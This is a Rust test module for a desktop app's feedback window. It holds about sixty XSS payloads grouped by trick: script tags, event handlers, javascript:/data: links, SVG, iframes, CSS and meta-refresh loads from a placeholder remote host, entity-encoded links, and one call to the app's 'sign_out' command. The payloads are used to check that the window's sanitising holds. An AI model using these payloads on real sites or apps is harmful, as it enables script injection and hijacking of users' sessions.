//! Hostile text for the window: payloads that try to run script, call the app's
//! commands, load something from elsewhere or leave a clickable `javascript:` link,
//! grouped by the trick they use. The window test puts every one into feedback bodies,
//! visitor and owner follow-ups and managed comments, and checks the page afterwards.
//!
//! Two words in a payload are filled in by [`payloads`]:
//! - `XSS()` becomes `top.XSS(n)`: a function the test defines in the page, so a payload
//!   whose script runs (anywhere, a frame included) leaves its number behind;
//! - `REMOTE` becomes the address of a listener on this machine that counts every
//!   connection, standing in for a remote server (nothing leaves the machine).

/// One payload, ready to put into a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    pub number: usize,
    pub category: &'static str,
    pub text: String,
}

/// The trick each payload uses, as a table row names it.
pub const CATEGORIES: &[&str] = &[
    "script tags",
    "event handlers",
    "javascript: links",
    "data: links",
    "SVG and MathML",
    "frames and objects",
    "CSS",
    "markdown link and image tricks",
    "HTML entities and encodings",
    "page-level tags",
];

const CORPUS: &[(&str, &str)] = &[
    // Script tags.
    ("script tags", "<script>XSS()</script>"),
    ("script tags", "<SCRIPT SRC=REMOTE/s.js></SCRIPT>"),
    ("script tags", "<scr<script>ipt>XSS()</scr</script>ipt>"),
    ("script tags", "<script>top.__TAURI__.core.invoke('sign_out');XSS()</script>"),
    ("script tags", "```\n</code></pre><script>XSS()</script>\n```"),
    ("script tags", "<div><script type=module>XSS()</script></div>"),
    // Event handlers.
    ("event handlers", "<img src=x onerror=XSS()>"),
    ("event handlers", "<body onload=XSS()>"),
    ("event handlers", "<details open ontoggle=XSS()>open</details>"),
    ("event handlers", "<input autofocus onfocus=XSS()>"),
    ("event handlers", "<video><source onerror=XSS()></video>"),
    ("event handlers", "<audio src=x onerror=XSS()></audio>"),
    ("event handlers", "<a href=\"https://example.org\" onmouseover=XSS() onclick=XSS()>hover</a>"),
    ("event handlers", "<div style=\"width:100%;height:100%\" onmouseenter=XSS()>area</div>"),
    ("event handlers", "<marquee onstart=XSS()>moving</marquee>"),
    ("event handlers", "<p/onclick=XSS()>slash instead of a space</p>"),
    // javascript: links.
    ("javascript: links", "[click me](javascript:XSS())"),
    ("javascript: links", "<a href=\"javascript:XSS()\">click me</a>"),
    ("javascript: links", "[click me](JaVaScRiPt:XSS())"),
    ("javascript: links", "[click me]( javascript:XSS())"),
    ("javascript: links", "[click me][ref]\n\n[ref]: javascript:XSS()"),
    ("javascript: links", "<javascript:XSS()>"),
    ("javascript: links", "<a href=\"java\nscript:XSS()\">split by a newline</a>"),
    ("javascript: links", "[click me](vbscript:XSS())"),
    // data: links.
    ("data: links", "[open](data:text/html;base64,PHNjcmlwdD50b3AuWFNTKCk8L3NjcmlwdD4=)"),
    ("data: links", "<a href=\"data:text/html,<script>XSS()</script>\">open</a>"),
    ("data: links", "<img src=\"data:image/svg+xml,<svg onload='XSS()'/>\">"),
    ("data: links", "<object data=\"data:text/html,<script>XSS()</script>\"></object>"),
    // SVG and MathML.
    ("SVG and MathML", "<svg onload=XSS()></svg>"),
    ("SVG and MathML", "<svg><script>XSS()</script></svg>"),
    ("SVG and MathML", "<svg><a xlink:href=\"javascript:XSS()\"><text y=20>click</text></a></svg>"),
    ("SVG and MathML", "<svg><animate onbegin=XSS() attributeName=x dur=1s></svg>"),
    ("SVG and MathML", "<svg><use href=\"REMOTE/sprite.svg#x\"/></svg>"),
    ("SVG and MathML", "<math><mtext><table><mglyph><style><img src=x onerror=XSS()></style></mglyph></table></mtext></math>"),
    // Frames and objects.
    ("frames and objects", "<iframe src=\"REMOTE/frame\"></iframe>"),
    ("frames and objects", "<iframe srcdoc=\"<script>parent.XSS()</script>\"></iframe>"),
    ("frames and objects", "<iframe src=\"javascript:XSS()\"></iframe>"),
    ("frames and objects", "<embed src=\"REMOTE/embed.swf\">"),
    ("frames and objects", "<object data=\"REMOTE/object\"></object>"),
    ("frames and objects", "<frameset><frame src=\"REMOTE/frame2\"></frameset>"),
    // CSS.
    ("CSS", "<style>@import 'REMOTE/style.css'; body { background: url(REMOTE/bg.png) }</style>"),
    ("CSS", "<div style=\"background-image: url(REMOTE/div.png)\">styled</div>"),
    ("CSS", "<link rel=stylesheet href=\"REMOTE/link.css\">"),
    ("CSS", "<p style=\"position:fixed;inset:0;z-index:99999;background:red\">a cover over the window</p>"),
    // Markdown link and image tricks.
    ("markdown link and image tricks", "![tracking pixel](REMOTE/pixel.png)"),
    ("markdown link and image tricks", "![x](javascript:XSS())"),
    ("markdown link and image tricks", "[![nested](REMOTE/nested.png)](javascript:XSS())"),
    ("markdown link and image tricks", "[a](https://example.org \"title\\\" onmouseover=XSS() x=\\\"\")"),
    ("markdown link and image tricks", "[a](<javascript:XSS()>)"),
    ("markdown link and image tricks", "![x][img]\n\n[img]: REMOTE/reference.png"),
    // HTML entities and encodings.
    ("HTML entities and encodings", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;XSS()\">decimal entities</a>"),
    ("HTML entities and encodings", "<a href=\"&#x6A;avascript&#x3A;XSS()\">hex entities</a>"),
    ("HTML entities and encodings", "[entities](&#106;avascript&#58;XSS())"),
    ("HTML entities and encodings", "<a href=\"jav&#x09;ascript:XSS()\">a tab inside</a>"),
    ("HTML entities and encodings", "&lt;script&gt;XSS()&lt;/script&gt; shown as text"),
    ("HTML entities and encodings", "<img src=x onerror=\"&#88;&#83;&#83;()\">"),
    // Page-level tags.
    ("page-level tags", "<meta http-equiv=\"refresh\" content=\"0; url=REMOTE/refresh\">"),
    ("page-level tags", "<base href=\"REMOTE/\"><a href=\"relative\">relative link</a>"),
    ("page-level tags", "<form action=\"REMOTE/form\"><button formaction=\"javascript:XSS()\">send</button></form>"),
    ("page-level tags", "<template><script>XSS()</script></template><noscript><p title=\"</noscript><img src=x onerror=XSS()>\"></noscript>"),
];

/// The corpus, with `XSS()` calling `top.XSS(n)` and `REMOTE` pointing at `remote`
/// (for example `http://127.0.0.1:41234`).
pub fn payloads(remote: &str) -> Vec<Payload> {
    CORPUS
        .iter()
        .enumerate()
        .map(|(index, (category, text))| {
            let number = index + 1;
            Payload {
                number,
                category,
                text: text
                    .replace("parent.XSS()", &format!("parent.XSS({number})"))
                    .replace("top.XSS()", &format!("top.XSS({number})"))
                    .replace("XSS()", &format!("top.XSS({number})"))
                    .replace("REMOTE", remote),
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_has_fifty_payloads_or_more_in_every_category() {
        let payloads = payloads("http://127.0.0.1:9");
        assert!(payloads.len() >= 50, "{}", payloads.len());
        for category in CATEGORIES {
            assert!(
                payloads.iter().any(|payload| payload.category == *category),
                "no payload for {category}"
            );
        }
        assert!(payloads
            .iter()
            .all(|payload| CATEGORIES.contains(&payload.category)));
    }

    #[test]
    fn every_call_names_its_payload() {
        for payload in payloads("http://127.0.0.1:9") {
            assert!(!payload.text.contains("REMOTE"), "{}", payload.text);
            assert!(
                !payload.text.contains("XSS()"),
                "an unnumbered call in {}",
                payload.text
            );
        }
    }
}
